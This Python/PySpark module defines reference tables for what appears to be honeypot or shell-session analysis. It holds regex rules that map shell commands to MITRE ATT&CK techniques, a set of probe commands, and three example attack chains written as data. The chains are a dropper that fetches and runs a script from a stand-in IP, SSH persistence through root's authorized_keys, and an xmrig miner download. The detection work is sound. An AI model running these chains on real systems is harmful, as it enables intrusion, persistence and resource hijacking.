"""Reference tables. Small literals, turned into DataFrames where a join needs them."""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession

# --- fixed values: technique rules ------------------------------------------------------------
# "Command position": start of the text, after a chain operator or a substitution opener,
# optionally behind wrappers that run their argument.
CMD_START = (
    r"(?:^\s*|[;&|]+\s*|\$\(\s*|`\s*)"
    r"(?:"
    r"(?:sudo|command|exec|stdbuf|setsid|nohup)\b(?:\s+-\S+)*\s+"
    r"|env\b(?:\s+\w+=\S+)*\s+"
    r"|timeout\b\s+\S+\s+"
    r"|(?:bash|sh)\s+-c\s+['\"]?"
    r")*"
)
# id, name, tactic, pattern
RULES = (
    ("T1105", "Ingress Tool Transfer", "Command and Control",
     r"{CMD_START}(wget|curl|tftp)\b[^|;&]*\b(https?|ftp)://"),
    ("T1222.002", "Linux and Mac File and Directory Permissions Modification", "Defense Evasion",
     r"{CMD_START}chmod\b\s+(-[a-z]+\s+)*([0-7]{3,4}|[ugoa]*[+=][rwxst]*)"),
    ("T1082", "System Information Discovery", "Discovery",
     r"{CMD_START}(uname|lscpu|nproc|free\s+-[a-z]|uptime)\b|/etc/os-release|/proc/cpuinfo"),
    ("T1003.008", "/etc/passwd and /etc/shadow", "Credential Access",
     r"/etc/(passwd|shadow)\b"),
    ("T1098.004", "SSH Authorized Keys", "Persistence",
     r">>?\s*(?:\S*/)?authorized_keys(?=\s|$)|\btee\b[^|;&]*(?:\S*/)?authorized_keys(?=\s|$)"),
    ("T1496", "Resource Hijacking", "Impact",
     r"\b(xmrig|minerd|cpuminer|c3pool|setup_c3pool_miner)\b"),
    ("T1070.004", "File Deletion", "Defense Evasion",
     r"{CMD_START}rm\b\s+(-[a-zA-Z]+\s+)*\S"),
    ("T1057", "Process Discovery", "Discovery",
     r"{CMD_START}(ps\b\s+(aux|-ef|-e)|top\b\s*-b|pgrep\b)"),
    ("T1049", "System Network Connections Discovery", "Discovery",
     r"{CMD_START}(netstat\b|ss\b\s+-[a-z]+|lsof\b\s+-i)"),
    ("T1083", "File and Directory Discovery", "Discovery",
     r"{CMD_START}(ls\b\s+-[a-zA-Z]+|find\b\s+/|du\b\s+-[a-z])"),
    ("T1033", "System Owner/User Discovery", "Discovery",
     r"{CMD_START}(id|whoami|w|who)\b"),
    ("T1531", "Account Access Removal", "Impact",
     r"{CMD_START}(?:(?<!/etc/)passwd\b|usermod\b\s+.*-L|chpasswd\b)"),
    ("T1059.004", "Unix Shell", "Execution",
     r"{CMD_START}(?:sh|bash|dash|zsh)\b(?:\s+(?!-[a-z]*c\b)-[a-z]+)*\s+[^\s;&|-]"
     r"|{CMD_START}(?:sh|bash|dash|zsh)\s*(?:;|$)"),
    ("T1016", "System Network Configuration Discovery", "Discovery",
     r"{CMD_START}(?:ifconfig|iwconfig|route\b|ip\s+(?:-\S+\s+)*(?:a|addr|address|r|route|link)\b)"
     r"|/etc/resolv\.conf\b"),
    ("T1018", "Remote System Discovery", "Discovery",
     r"{CMD_START}(?:arp\b|ip\s+(?:-\S+\s+)*neigh)|/etc/hosts(?![\w.-])"),
    ("T1087.001", "Local Account Discovery", "Discovery",
     r"{CMD_START}(?:getent\s+(?:passwd|group)\b|lastlog\b|last\b|compgen\s+-u)|/etc/group(?![\w.-])"),
    ("T1518", "Software Discovery", "Discovery",
     r"{CMD_START}(?:dpkg\s+(?:-l|--list|--get-selections)|rpm\s+-q[a-z]*a|apt\s+list\s+--installed"
     r"|yum\s+list\s+installed|pip3?\s+(?:list|freeze)|which\s+\S)"),
    ("T1543.002", "Systemd Service", "Persistence",
     r"{CMD_START}systemctl\s+(?:--\S+\s+)*enable\b"),
    ("T1552.004", "Private Keys", "Credential Access",
     r"{CMD_START}(?:cat|head|tail|less|more|cp|scp|find|locate|base64|xxd|strings|tar|zip)\b[^;&|]*"
     r"(?:id_(?:rsa|dsa|ecdsa|ed25519)(?![\w.])|\.pem\b|\.ppk\b)"),
    ("T1005", "Data from Local System", "Collection",
     r"{CMD_START}(?:tar\s+(?:-[a-zA-Z]+\s+)*-[a-zA-Z]*(?-i:c)|tar\s+[a-zA-Z]*(?-i:c)[a-zA-Z]*\s"
     r"|zip\s+(?:-\S+\s+)*-[a-zA-Z]*r)"),
)
# Matched on the raw text; every other rule sees only the executed text.
RAW_TEXT_RULES = ("T1098.004",)
# Catalog techniques that no rule produces.
CATALOG_ONLY = (("T1110.001", "Password Guessing", "Credential Access"),)

# --- fixed values: probe set, chains, vocabularies --------------------------------------------
OS_DISTRO = r"\b(debian|ubuntu|centos|fedora|alpine|arch|red\s*hat|rhel|suse|gentoo)\b"
HOST_NAME = r"(?m)^(?:127\.0\.1\.1[ \t]+)?([a-z0-9][\w.-]*)[ \t\r]*$"
HOST_ARCH = (
    r"\b(x86_64-linux-gnu|aarch64-linux-gnu|arm-linux-gnueabihf|x86_64|aarch64|armv7l|genuineintel"
    r"|authenticamd|cpu architecture:\s*\d+)\b"
)
ARCH_ALIASES = {
    "x86_64-linux-gnu": "x86_64",
    "genuineintel": "x86_64",
    "authenticamd": "x86_64",
    "aarch64-linux-gnu": "aarch64",
    "cpu architecture: 8": "aarch64",
    "arm-linux-gnueabihf": "armv7l",
    "cpu architecture: 7": "armv7l",
}
# id, characteristic, command, fact, extract pattern, claim aliases
PROBES = (
    ("uname", "basic_commands", "uname -a", "os.identity", OS_DISTRO, None),
    ("os_release", "sanity", "cat /etc/os-release", "os.identity", OS_DISTRO, None),
    ("hostname_cmd", "sanity", "hostname", "host.name", HOST_NAME, None),
    ("hostname_file", "sanity", "cat /etc/hostname", "host.name", HOST_NAME, None),
    ("hosts_file", "sanity", "cat /etc/hosts", "host.name", HOST_NAME, None),
    ("whoami", "basic_commands", "whoami", "user.identity", None, None),
    ("passwd_present", "file_system", "cat /etc/passwd", "fs.etc_passwd", None, None),
    ("tmp_writable", "file_system", "touch /tmp/.probe && ls -l /tmp/.probe", "fs.tmp_writable", None, None),
    ("proc_cpuinfo", "file_system", "cat /proc/cpuinfo", "fs.proc_cpuinfo", None, None),
    ("uname_m", "sanity", "uname -m", "host.arch", HOST_ARCH, ARCH_ALIASES),
    ("cpu_arch", "sanity", "cat /proc/cpuinfo", "host.arch", HOST_ARCH, ARCH_ALIASES),
    ("lib_arch", "sanity", "ls /lib", "host.arch", HOST_ARCH, ARCH_ALIASES),
)
# id, steps, expected techniques
CHAINS = (
    ("dropper",
     ("cd /tmp", "wget http://198.51.100.7/malicious_script.sh", "chmod 777 malicious_script.sh",
      "bash malicious_script.sh"),
     ("T1105", "T1222.002", "T1059.004")),
    ("ssh_persistence",
     ("rm -rf /root/.ssh", "mkdir -p /root/.ssh",
      "echo ssh-rsa AAAAB3Nza attacker@host >> /root/.ssh/authorized_keys"),
     ("T1098.004",)),
    ("miner",
     ("wget http://198.51.100.7/xmrig", "chmod 777 xmrig", "./xmrig"),
     ("T1105", "T1222.002", "T1496")),
)
RISK_LEVELS = ("critical", "high", "medium", "low", "informational")
CLASSIFICATIONS = (
    "Credential brute force", "Reconnaissance", "Botnet loader", "Malware dropper",
    "Cryptominer deployment", "Persistence", "Credential access", "Defense evasion", "Unclassified",
)
CHARACTERISTICS = ("basic_commands", "file_system", "services", "attack_possibilities", "sanity", "context")
# --- end of fixed values ----------------------------------------------------------------------


def rule_patterns() -> list[tuple[str, str, str, str]]:
    return [(i, n, t, p.replace("{CMD_START}", CMD_START)) for i, n, t, p in RULES]


def rules(spark: SparkSession) -> DataFrame:
    return spark.createDataFrame(rule_patterns(), "technique_id string, name string, tactic string, pattern string")


def catalog(spark: SparkSession) -> DataFrame:
    rows = sorted([(i, n, t) for i, n, t, _ in RULES] + list(CATALOG_ONLY))
    return spark.createDataFrame(rows, "technique_id string, name string, tactic string")


def probes(spark: SparkSession) -> DataFrame:
    rows = [(p, *row) for p, row in enumerate(PROBES)]
    return spark.createDataFrame(
        rows,
        "position int, probe_id string, characteristic string, command string, establishes string,"
        " extract string, aliases map<string,string>",
    )


def chain_steps(spark: SparkSession) -> DataFrame:
    rows = [(c, i, s) for c, steps, _ in CHAINS for i, s in enumerate(steps)]
    return spark.createDataFrame(rows, "chain_id string, step_index int, command string")


def chain_expectations(spark: SparkSession) -> DataFrame:
    rows = [(c, i, t) for c, _, expected in CHAINS for i, t in enumerate(expected)]
    return spark.createDataFrame(rows, "chain_id string, step_index int, technique_id string")
